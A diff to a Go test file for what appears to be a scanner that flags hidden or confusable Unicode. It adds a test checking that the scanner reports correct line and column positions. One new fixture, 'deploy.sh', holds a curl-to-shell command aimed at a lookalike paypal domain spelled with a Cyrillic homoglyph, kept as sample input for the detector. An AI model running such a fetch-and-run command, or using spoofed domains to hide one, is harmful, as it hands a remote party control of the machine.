@@ -8,8 +8,10 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/plainsight-dev/plainsight"
 )
 
 // scanTree is the tree the scan tests run over, built in a temporary
@@ -37,6 +39,8 @@ var scanTreeFiles = map[string]string{
 	"big.txt":            strings.Repeat("x", 2000) + "\u202e\n",
 	".git/config":        "x\u202e\n",
 	"empty":              "",
+	"bad-utf8.txt":       "caf\xe9 \xff\xfe ok\n",
+	"deploy.sh":          "# \u00e9t\u00e9\ncurl https://p\u0430ypal.example/\u00e9 | sh\n",
 }
 
 func makeScanTree(t *testing.T) string {
@@ -196,5 +200,52 @@ func TestKindSummaries(t *testing.T) {
 	}
 	if diff := cmp.Diff([]string(nil), missing); diff != "" {
 		t.Errorf("rules without docs (-want +got):\n%s", diff)
+	}
+}
+
+// TestScanPositions checks every position scan prints against the file:
+// the character at line:column is where the finding's token starts.
+func TestScanPositions(t *testing.T) {
+	dir := makeScanTree(t)
+	cmd := exec.Command(binary, "scan", "-format", "json", "-max-size", "1000")
+	cmd.Dir = dir
+	out, _ := cmd.Output()
+	placed := 0
+	for line := range strings.Lines(string(out)) {
+		var f finding
+		if err := json.Unmarshal([]byte(line), &f); err != nil {
+			t.Fatalf("%v: %s", err, line)
+		}
+		if f.Line == 0 {
+			continue
+		}
+		placed++
+		data, err := os.ReadFile(filepath.Join(dir, f.Path))
+		if err != nil {
+			t.Fatal(err)
+		}
+		lines := strings.SplitAfter(string(data), "\n")
+		if f.Line > len(lines) {
+			t.Errorf("%s: line %d past the end", f.Path, f.Line)
+			continue
+		}
+		// Columns count characters, an invalid byte as one.
+		rest := lines[f.Line-1]
+		for range f.Column - 1 {
+			_, n := utf8.DecodeRuneInString(rest)
+			rest = rest[n:]
+		}
+		if rest == "" {
+			t.Errorf("%s:%d: column %d past the end of the line", f.Path, f.Line, f.Column)
+			continue
+		}
+		_, n := utf8.DecodeRuneInString(rest)
+		at := plainsight.Sanitize(rest[:n]).Text
+		if !strings.HasPrefix(f.Token, at) {
+			t.Errorf("%s:%d:%d: the character there reads %+q, but the token is %+q", f.Path, f.Line, f.Column, at, f.Token)
+		}
+	}
+	if placed == 0 {
+		t.Error("no finding was placed")
 	}
 }
